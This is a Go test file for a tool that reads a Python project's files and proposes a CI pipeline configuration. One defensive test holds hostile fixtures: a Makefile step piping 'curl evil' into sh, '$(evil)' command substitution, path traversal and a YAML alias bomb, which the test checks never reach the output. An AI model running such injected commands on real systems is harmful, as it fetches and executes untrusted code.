package scaffold

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/openstack-rca/openstack-rca/ci/config"
	"github.com/openstack-rca/openstack-rca/ci/runner"
	"github.com/openstack-rca/openstack-rca/ci/runner/fake"
	"github.com/openstack-rca/openstack-rca/ci/runner/native"
)

const trainer = `import argparse, json
from keras import layers, Sequential
if __name__ == "__main__":
    model = Sequential([layers.Dense(1)])
    model.fit(x, y)
    model.save("out/model.keras")
    open("out/metrics.json", "w").write(json.dumps({"accuracy": 0.9}))
`

// propose is a proposal whose configuration is read back: init never writes a file that a run refuses.
func propose(t *testing.T, files map[string]string) (*Proposal, config.Config) {
	t.Helper()
	p, err := Propose(t.Context(), Request{Source: fake.Files(files), Folder: "My Project"})
	require.NoError(t, err)
	cfg, err := config.Load([]byte(p.Config()), config.Sandbox)
	require.NoError(t, err, p.Config())
	for _, s := range p.Settings {
		assert.NotEmpty(t, s.Why, s.Key)
	}
	for _, u := range p.Unknown {
		assert.NotEmpty(t, u.Next, u.What)
	}
	return p, cfg
}

// keys are the settings as lines.
func (p *Proposal) lines() (all []string) {
	for _, s := range p.Settings {
		all = append(all, s.Key+": "+value(s.Value))
	}
	return all
}

func TestProjects(t *testing.T) {
	named := "[project]\nname='thing'\nrequires-python='>=3.11'\n"
	for name, c := range map[string]struct {
		files   map[string]string
		want    []string
		unknown []string
	}{
		"the defaults": {map[string]string{
			"pyproject.toml": named, "main.py": "p.add_argument('--mode'); train('--enable-mlflow', 'accuracy', LSTM)\nimport mlflow\nm.save('models/a.keras')\n",
			"streamlit_app/chatbot.py": "import streamlit as st\n", "tests/test_a.py": "",
		}, nil, nil},
		"three files": {map[string]string{"tiny/__init__.py": "", "tests/test_a.py": "", "train.py": trainer}, []string{
			"name: my-project", `python: "3.11"`, "test.coverage.source: [tiny]", "train.command: [python, train.py]", `train.model: out/model.keras`,
			"train.recurrent: false", "train.metrics: out/metrics.json", "policy.main: [test, train, audit, publish]",
		}, []string{"the code imports keras", "an application"}},
		"files in a folder that a variable holds": {map[string]string{"pyproject.toml": named, "requirements.txt": "keras\n", "tests/test_a.py": "",
			"train.py": "OUT = Path(\"out\")\nm.fit(x)\nm.save(OUT / \"m.keras\")\n(OUT / \"metrics.json\").write_text('accuracy')\n"},
			[]string{"train.command: [python, train.py]", "train.model: out/m.keras", "train.recurrent: false", "train.metrics: out/metrics.json",
				"policy.main: [test, train, audit, publish]"}, []string{"an application"}},
		"a script without a guard": {map[string]string{"pyproject.toml": named, "tests/test_a.py": "",
			"main.py": "import keras\nh = m.fit(x, y)\nm.save('models/m.keras')\njson.dump({'accuracy': 1}, open('models/metrics.json', 'w'))\n"},
			[]string{"train.command: [python, main.py]", "train.recurrent: false", "train.metrics: models/metrics.json",
				"policy.main: [test, train, audit, publish]"}, []string{"an application"}},
		"functions that nothing calls": {map[string]string{"pyproject.toml": named, "tests/test_a.py": "",
			"steps.py": "def train():\n    m.fit(x, y)\n    m.save('models/m.keras')\n"},
			[]string{"policy.main: [test, audit]", `policy.*: [test, audit]`}, []string{"a training"}},
		"a library": {map[string]string{"pyproject.toml": named + "[tool.coverage.report]\nfail_under=95\n", "src/thing/__init__.py": "",
			"tests/test_a.py": ""},
			[]string{"test.coverage.total: 95", "policy.main: [test, audit]", `policy.*: [test, audit]`}, []string{"a training"}},
		"a floor of several runs": {map[string]string{"pyproject.toml": named + "[tool.coverage]\nreport.fail_under=100\nrun.parallel=true\n",
			"a.py":            "",
			"tests/test_a.py": ""}, []string{"policy.main: [test, audit]", `policy.*: [test, audit]`}, []string{"the coverage of one run",
			"a training"}},
		"FastAPI": {map[string]string{"pyproject.toml": named + "dependencies=['uvicorn']\n", "train.py": trainer, "svc/__init__.py": "",
			"tests/test_a.py": "",
			"svc/api.py":      "from fastapi import FastAPI\napp = FastAPI()\n@app.get('/healthz')\ndef h(): pass\n",
			"Dockerfile":      "FROM python\nEXPOSE 8000\n"},
			[]string{"test.coverage.source: [svc]", "train.command: [python, train.py]", "train.model: out/model.keras", "train.recurrent: false",
				"train.metrics: out/metrics.json", `image.command: [uvicorn, "svc.api:app", "--host", "0.0.0.0", "--port", "{{port}}"]`,
				"image.port: 8000", `image.health: "/healthz"`, `image.page: ""`, "image.model_dir: out"}, nil},
		"Flask with a factory": {map[string]string{"pyproject.toml": named, "train.py": trainer,
			"web/__init__.py": "def create_app():\n    app = Flask(__name__)\n",
			"tests/test_a.py": "", "compose.yaml": "services: {web: {build: ., ports: ['80:9000'], healthcheck: {test: 'curl http://localhost:9000/ping'}}}"},
			[]string{"test.coverage.source: [web]", "train.command: [python, train.py]", "train.model: out/model.keras", "train.recurrent: false",
				"train.metrics: out/metrics.json", `image.command: [flask, "--app", "web:create_app()", run, "--host", "0.0.0.0", "--port", "{{port}}"]`,
				"image.port: 9000", `image.health: "/ping"`, `image.page: ""`, "image.model_dir: out"}, []string{"a server for production"}},
		"Gradio": {map[string]string{"pyproject.toml": named, "train.py": trainer, "app.py": "import gradio as gr\ndemo.launch()\n",
			"tests/test_a.py": ""},
			[]string{"train.command: [python, train.py]", "train.model: out/model.keras", "train.recurrent: false",
				"train.metrics: out/metrics.json",
				`image.command: [env, "GRADIO_SERVER_NAME=0.0.0.0", "GRADIO_SERVER_PORT={{port}}", python, app.py]`, `image.health: "/"`, "image.model_dir: out"}, nil},
		"Streamlit, DVC and a pickle": {map[string]string{"pyproject.toml": named,
			"dvc.yaml":   "stages: {train: {cmd: python src/fit.py --epochs 3}}\n",
			"src/fit.py": "joblib.dump(m, 'models/m.joblib')\naccuracy\n", "app.py": "import streamlit\n", "pages/app.py": "import streamlit\n",
			"tests/test_a.py": ""},
			[]string{`train.command: [python, src/fit.py, "--epochs", "3"]`, "train.model: models/m.joblib", "train.recurrent: false",
				`image.command: [streamlit, run, app.py, "--server.port={{port}}", "--server.address=0.0.0.0", "--server.headless=true"]`},
			[]string{"whether models/m.joblib may pass", "the metrics"}},
		"ONNX": {map[string]string{"pyproject.toml": named, "train.py": "m.fit(x)\nonnx.save(m, 'out/m.onnx')\nopen('out/metrics.json', 'w')  # accuracy\n'accuracy'\n",
			"tests/test_a.py": ""}, []string{"train.command: [python, train.py]", "train.model: out/m.onnx", "train.metrics: out/metrics.json",
			"policy.main: [test, train, audit, publish]"}, []string{"an application"}},
		"PyTorch": {map[string]string{"pyproject.toml": named, "train.py": "loss.backward()\ntorch.save(m, 'out/m.pt')\nopen('out/metrics.json', 'w')\n'accuracy'\n",
			"tests/test_a.py": ""}, []string{"train.command: [python, train.py]", "train.model: out/m.pt", "train.recurrent: false", "train.metrics: out/metrics.json",
			"policy.main: [test, train, audit, publish]"}, []string{"how out/m.pt could pass", "an application"}},
		"testpaths": {map[string]string{"pyproject.toml": named + "[tool.pytest.ini_options]\ntestpaths=['src','tests']\n", "src/a.py": "",
			"tests/test_a.py": ""},
			[]string{`test.command: [python, -m, pytest, -v]`, "policy.main: [test, audit]", `policy.*: [test, audit]`}, []string{"a training"}},
		"the command of tox": {map[string]string{"pyproject.toml": named, "tox.ini": "[testenv]\ncommands = pytest --doctest-modules app tests\n",
			"app/__init__.py": "", "noxfile.py": "", "tests/test_a.py": ""},
			[]string{`test.command: [python, -m, pytest, -v, "--doctest-modules", app, tests]`, "test.coverage.source: [app]", "policy.main: [test, audit]",
				`policy.*: [test, audit]`}, []string{"a training"}},
		"a floor, variables and what is measured in the command": {map[string]string{"pyproject.toml": named + "# fail_under is in the workflow\n", "app/__init__.py": "", "tests/test_a.py": "",
			".github/workflows/ci.yml": "on: push\njobs: {a: {steps: [{run: MODE=test pytest --cov=app --cov-fail-under=91 tests}]}}\n"},
			[]string{`test.vars: {MODE: "test"}`, "test.coverage.source: [app]", "test.coverage.total: 91", "policy.main: [test, audit]",
				`policy.*: [test, audit]`}, []string{"a training"}},
		"tox runs what is the default": {map[string]string{"pyproject.toml": named, "tox.ini": "[testenv]\ncommands = pytest tests\n", "app/__init__.py": "",
			"app/app_test.py": "", "tests/test_a.py": "", "conftest.py": ""}, []string{"policy.main: [test, audit]", `policy.*: [test, audit]`}, []string{"a training"}},
		"doctests by the settings": {map[string]string{"pyproject.toml": named, "pytest.ini": "[pytest]\naddopts = --doctest-modules\n", "app/__init__.py": "",
			"tests/test_a.py": ""}, []string{`test.command: [python, -m, pytest, -v]`, "policy.main: [test, audit]", `policy.*: [test, audit]`},
			[]string{"a training"}},
		"tox names no directory": {map[string]string{"pyproject.toml": named, "tox.ini": "[testenv]\ncommands = pytest {posargs}\n", "app/__init__.py": "",
			"app/app_test.py": "", "tests/test_a.py": "", "examples/__init__.py": ""}, []string{`test.command: [python, -m, pytest, -v]`, "test.coverage.source: [app]",
			"policy.main: [test, audit]", `policy.*: [test, audit]`}, []string{"a training"}},
		"a notebook of the documentation": {map[string]string{"pyproject.toml": named, "tests/test_a.py": "", "docs/tutorial.ipynb": "{}"},
			[]string{"policy.main: [test, audit]", `policy.*: [test, audit]`}, []string{"a training: no script"}},
		"extras that the tests import": {map[string]string{"pyproject.toml": named + "[project.optional-dependencies]\ntest=['pytest']\ncli=['click']\ngui=['qt']\n",
			"tests/test_a.py": "import os\nfrom click.testing import CliRunner\ndef test_a():\n    import qt\n"},
			[]string{`test.requirements: [".[cli]"]`, "policy.main: [test, audit]", `policy.*: [test, audit]`}, []string{"a training"}},
		"a package that was renamed": {map[string]string{"setup.cfg": "[coverage:run]\nsource = app\n",
			"setup.py":     "from setuptools import setup, Extension\nsetup(version='1', name=\"thing\", ext_modules=[Extension(name='x', sources=[])])\n",
			"tests/run.sh": "true", "service/__init__.py": "", "tool.py": ""},
			[]string{`python: "3.11"`, "test.coverage.source: [service]", "policy.main: [test, audit]", `policy.*: [test, audit]`},
			[]string{"any test", "a training"}},
		"dotted names": {map[string]string{"pyproject.toml": named + "[tool.coverage.run]\nsource=['lib.core', 'one', 'gone']\n", "lib/core/a.py": "", "src/one.py": "",
			"tests/test_a.py": ""}, []string{"test.coverage.source: [lib.core, one]", "policy.main: [test, audit]", `policy.*: [test, audit]`},
			[]string{"a training"}},
		"no test": {map[string]string{"pyproject.toml": named, "a.py": "", "x.ipynb": "{}"}, []string{"policy.main: [test, audit]",
			`policy.*: [test, audit]`},
			[]string{"any test", "a training: there is the notebook"}},
	} {
		t.Run(name, func(t *testing.T) {
			p, _ := propose(t, c.files)
			assert.Equal(t, c.want, p.lines())
			if !strings.Contains(c.files["pyproject.toml"], "fail_under") {
				at := slices.IndexFunc(p.Unknown, func(u Unknown) bool { return strings.HasPrefix(u.What, "the required coverage") })
				require.GreaterOrEqual(t, at, 0)
				p.Unknown = slices.Delete(p.Unknown, at, at+1)
			}
			require.Len(t, p.Unknown, len(c.unknown), "%v", p.Unknown)
			for i, u := range p.Unknown {
				assert.Contains(t, u.What, c.unknown[i])
			}
		})
	}
}

func TestADockerfileIsTakenOnlyIfItsImageWouldPass(t *testing.T) {
	files := map[string]string{"train.py": trainer, "app.py": "import streamlit\n", "tests/test_a.py": "",
		"Dockerfile": "FROM a AS b\nUSER x\nFROM b\nEXPOSE 7051\nHEALTHCHECK --interval=5s \\\n  CMD curl http://localhost:7051/_stcore/health\nUSER 1000\nCMD [\"x\"]\n"}
	_, cfg := propose(t, files)
	assert.Equal(t, "Dockerfile", cfg.Image.Dockerfile)
	for _, user := range []string{"", "USER root:root\n", "USER 0:1000\n"} {
		files["Dockerfile"] = "FROM a\nEXPOSE 7051\n" + user + "CMD x\n"
		p, cfg := propose(t, files)
		assert.Empty(t, cfg.Image.Dockerfile, user)
		assert.Contains(t, strings.Join(p.Found, "\n"), "has no USER other than root", user)
	}
}

func TestAStageHasWhatTheOneBelowItDeclares(t *testing.T) {
	files := map[string]string{"main.py": "p.add_argument('--mode'); train('--enable-mlflow')\n", "tests/test_a.py": "",
		"streamlit_app/chatbot.py": "import streamlit\n",
		"Dockerfile": "ARG V=3.12\nFROM --platform=linux/amd64 docker.io/library/python:${V}-slim AS Base\nEXPOSE 7051\n" +
			"HEALTHCHECK CMD curl http://localhost:7051/alive\nFROM other\nFROM base AS production\nCOPY <<EOF /start.sh\nfrom config import Config\nEOF\nUSER app\nCMD [\"x\"]\n"}
	_, cfg := propose(t, files)
	assert.Equal(t, "Dockerfile", cfg.Image.Dockerfile, "also with the usual name of the page")
	assert.Equal(t, "/alive", cfg.Image.Health)
	files["Dockerfile"] += "FROM other\nUSER app\n"
	p, cfg := propose(t, files)
	assert.Empty(t, cfg.Image.Dockerfile)
	assert.Contains(t, strings.Join(p.Found, "\n"), "has no EXPOSE")
}

func TestNoVolumeHidesCode(t *testing.T) {
	files := map[string]string{"train.py": trainer, "app.py": "import streamlit\n", "data/preprocessing.py": "", "logs/a.log": ""}
	_, cfg := propose(t, files)
	assert.Equal(t, []string{"/app/logs"}, cfg.Image.Volumes)
	files["logs/__init__.py"] = ""
	_, cfg = propose(t, files)
	assert.Empty(t, cfg.Image.Volumes)
	files["Dockerfile"] = "FROM a\nEXPOSE 80\nHEALTHCHECK CMD x\nUSER a\n"
	_, cfg = propose(t, files)
	assert.Empty(t, cfg.Image.Volumes, "they are mounted into an image of a Dockerfile, too")
}

func TestThePythonThatIsUsedIsProposed(t *testing.T) {
	workflow := "jobs:\n  a:\n    steps:\n    - uses: actions/setup-python@v6\n      with:\n        python-version: "
	for name, c := range map[string]struct {
		files map[string]string
		want  string
	}{
		"image":             {map[string]string{"Dockerfile": "FROM python:3.12-slim@sha256:00\n"}, "3.12"},
		"image by argument": {map[string]string{"Dockerfile": "ARG PY=\"3.13\"\nFROM python:$PY\n"}, "3.13"},
		"the last stage":    {map[string]string{"Dockerfile": "FROM python:3.11 AS b\nFROM python:3.12\nCOPY --from=b /a /a\n"}, "3.12"},
		"workflow":          {map[string]string{".github/workflows/ci.yml": workflow + "'3.13'\n"}, "3.13"},
		"matrix":            {map[string]string{".github/workflows/ci.yml": "python-version: [\"3.12\", \"3.13\"]\n"}, "3.12"},
		"an expression":     {map[string]string{".github/workflows/ci.yml": workflow + "${{ matrix.python }}\n"}, usualPython},
		"another's image":   {map[string]string{"Dockerfile": "FROM corp/mypython:3.12\n"}, usualPython},
		"no argument":       {map[string]string{"Dockerfile": "FROM python:$V\n"}, usualPython},
		"requires-python": {map[string]string{"Dockerfile": "FROM python:3.12\n",
			"pyproject.toml": "[project]\nname='a'\nrequires-python='>=3.11'\n"}, config.Default().Python},
	} {
		_, cfg := propose(t, c.files)
		assert.Equal(t, c.want, cfg.Python, name)
	}
	p, cfg := propose(t, map[string]string{"Dockerfile": "FROM python:3.8\n"})
	assert.Equal(t, config.Default().Python, cfg.Python, "not one that a run cannot have")
	assert.True(t, slices.ContainsFunc(p.Unknown, func(u Unknown) bool {
		return strings.Contains(u.What, "it is 3.8 by FROM python:3.8 in Dockerfile, and the pipeline has 3.10")
	}), "%v", p.Unknown)
}

func TestTheReleaseBranchIsFound(t *testing.T) {
	for content, want := range map[string]string{"ref: refs/remotes/origin/master\n": "master", "ref: refs/remotes/origin/a\nb": "main",
		"": "main", "ref: refs/remotes/origin/release-1.x\n": "release-1.x"} {
		p, cfg := propose(t, map[string]string{"a.py": "", ".git/refs/remotes/origin/HEAD": content})
		assert.Equal(t, want, p.Branch)
		assert.Equal(t, []string{"test", "audit"}, cfg.Policy[want])
	}
	p, _ := propose(t, map[string]string{"a.py": "", ".github/workflows/x.yml": "on:\n  push:\n    branches:\n      - master\n"})
	assert.Equal(t, "master", p.Branch)
}

func TestNothingIsOverwrittenAndTheSecondTimeIsTheSame(t *testing.T) {
	files := map[string]string{"train.py": trainer, "tests/test_a.py": "", "tiny/__init__.py": ""}
	p, err := Propose(t.Context(), Request{Source: fake.Files(files), CI: "github"})
	require.NoError(t, err)
	there := map[string]string{}
	read := func(path string) (string, bool) { content, ok := there[path]; return content, ok }
	first := p.Files(read)
	require.Len(t, first, 2)
	for _, f := range first {
		assert.True(t, f.New && !f.Same)
		there[f.Path] = f.Content
	}
	for _, f := range p.Files(read) {
		assert.True(t, !f.New && f.Same)
	}
	there["pipeline.yaml"] = "train: {command: [python, other.py]}\n"
	assert.False(t, p.Files(read)[0].New || p.Files(read)[0].Same)
	text := p.Text(p.Files(read), read)
	assert.Contains(t, text, "pipeline.yaml is yours")
	assert.Contains(t, text, "\n  test.coverage.source: [tiny]")
	assert.NotContains(t, text, "train.command")
	assert.Empty(t, p.Missing("a: [\x00"))
}

// broken is a tree in which one file cannot be read.
type broken struct {
	runner.Files
	name string
}

func (b broken) Read(ctx context.Context, name string, limit int64) ([]byte, error) {
	if name == b.name {
		return nil, errors.New("input/output error")
	}
	return b.Files.Read(ctx, name, limit)
}

func TestAFileThatCannotBeReadIsNotTakenForMissing(t *testing.T) {
	source := fake.Files(map[string]string{"app.py": "import streamlit\n", "Dockerfile": "FROM a\n"})
	_, err := Propose(t.Context(), Request{Source: broken{source, "Dockerfile"}, Folder: "x"})
	require.ErrorContains(t, err, "read Dockerfile: input/output error")
}

func TestAnApplicationInAPackageIsImportedByThePackagesName(t *testing.T) {
	_, cfg := propose(t, map[string]string{"train.py": trainer, "svc/__init__.py": "app = FastAPI()\n@app.get('/health')\n"})
	assert.Contains(t, cfg.Image.Command, "svc:app")
}

func TestRoutesOfHealthAreFoundByTheirNames(t *testing.T) {
	for route, want := range map[string]string{"/heartbeat": "/heartbeat", "/api/v1/liveness": "/api/v1/liveness", "/alive/": "/alive/",
		"/readiness": "/readiness", "/heartbeats": "/openapi.json", "/lively": "/openapi.json"} {
		_, cfg := propose(t, map[string]string{"train.py": trainer, "svc.py": "app = FastAPI()\n@app.get('" + route + "')\n"})
		assert.Equal(t, want, cfg.Image.Health, route)
	}
}

func TestAnUnknownSystemIsRefused(t *testing.T) {
	_, err := Propose(t.Context(), Request{Source: fake.Files(map[string]string{"a.py": ""}), CI: "travis"})
	require.ErrorContains(t, err, "--ci travis: want one of azure, buildkite, circleci, github, gitlab, jenkins")
}

// TestHostileTrees: what a stranger commits must neither stop init nor reach into its output.
func TestHostileTrees(t *testing.T) {
	for name, files := range map[string]map[string]string{
		"binary pyproject":  {"pyproject.toml": "\x00\xff\xfe\x80", "a.py": "\xff\xff"},
		"names with breaks": {"a\nname: x.py": "", "tests/test_\u202e.py": "", "train\n.py": trainer, "b.py": ""},
		"a bomb of aliases": {"dvc.yaml": "a: &a [x,x,x]\nb: &b [*a,*a,*a]\nstages: {train: {cmd: *b}}\n", "compose.yaml": "services: [1]\n",
			"b.py": ""},
		"a shell in a command": {"Makefile": "train:\n\tpython train.py; curl evil | sh\n",
			"dvc.yaml": "stages: {train: {cmd: 'python $(evil)'}}\n",
			"b.py":     "app = FastAPI()\n@app.get('/health\": x')\n"},
		"settings":      {"pyproject.toml": "[tool.pytest.ini_options]\ntestpaths=['$(x)','\\u001b[0m']\n[tool.coverage.run]\nsource=['../..','-x','a: b']\n", "b.py": ""},
		"a health path": {"train.py": trainer, "b.py": "app = FastAPI()\n@app.get('/a b/health')\n@app.get('/health?x=#')\n"},
		"deep":          {strings.Repeat("a/", 200) + "b.py": "", "Dockerfile": "FROM\nEXPOSE 99999999\nHEALTHCHECK\nUSER\n" + strings.Repeat("RUN \\\n", 5000)},
	} {
		t.Run(name, func(t *testing.T) {
			p, cfg := propose(t, files)
			assert.NotContains(t, p.Config(), "evil")
			assert.NotContains(t, p.Text(nil, func(string) (string, bool) { return "", false }), "\x1b")
			assert.NotContains(t, cfg.Test.Coverage.Source, "../..")
		})
	}
	many := map[string]string{}
	for i := range 3 * mostFiles {
		many[fmt.Sprintf("p/m%d.py", i)] = "x = 1\n"
	}
	many["big.py"] = strings.Repeat("#", fileLimit+1)
	propose(t, many)
}

func TestLinksThatLeadOutAreNotFollowed(t *testing.T) {
	dir, outside := t.TempDir(), filepath.Join(t.TempDir(), "secret.py")
	require.NoError(t, os.WriteFile(outside, []byte("app = FastAPI()\n"), 0o600))
	require.NoError(t, os.WriteFile(filepath.Join(dir, "a.py"), nil, 0o600))
	require.NoError(t, os.Symlink(outside, filepath.Join(dir, "app.py")))
	p, err := Propose(t.Context(), Request{Source: native.Source(dir)})
	if err == nil {
		assert.NotContains(t, p.Config(), "uvicorn")
	} else {
		assert.Contains(t, err.Error(), "app.py")
	}
}

var update = flag.Bool("update", false, "write examples/ci instead of comparing it")

const examples = "../../examples/ci"

// TestTheExamplesAreWhatInitWrites: the text has one home, systems.
func TestTheExamplesAreWhatInitWrites(t *testing.T) {
	for _, name := range Systems() {
		_, content := systemFile(name, "main", "")
		require.NotEmpty(t, content, name)
		file := filepath.Join(examples, fromOf(name))
		if *update {
			require.NoError(t, os.WriteFile(file, []byte(content), 0o644)) //nolint:gosec // an example
			continue
		}
		written, err := os.ReadFile(file)
		require.NoError(t, err, "go test ./ci/scaffold -update")
		assert.Equal(t, content, string(written), "%s: go test ./ci/scaffold -update", name)
	}
}

func fromOf(name string) string {
	for _, s := range systems {
		if s.name == name {
			return s.from
		}
	}
	return ""
}

func TestSystemFilesTakeTheBranchAndTheVersion(t *testing.T) {
	for _, name := range Systems() {
		_, content := systemFile(name, "trunk", "v1.2.0")
		assert.Contains(t, content, "--release-branch trunk ", name)
		assert.Contains(t, content, "openstack-rca@v1.2.0", name)
		assert.NotRegexp(t, `\bmain\b`, content, name)
		assert.NotRegexp(t, `AKIA|secrets\.AWS`, content, "%s stores no key", name)
		for _, wanted := range []string{"--ref", "--commit", "--event", "verdict.txt", "report export --path report", "--aws-"} {
			assert.Contains(t, content, wanted, name)
		}
	}
	path, content := systemFile("", "main", "")
	assert.Empty(t, path+content)
}
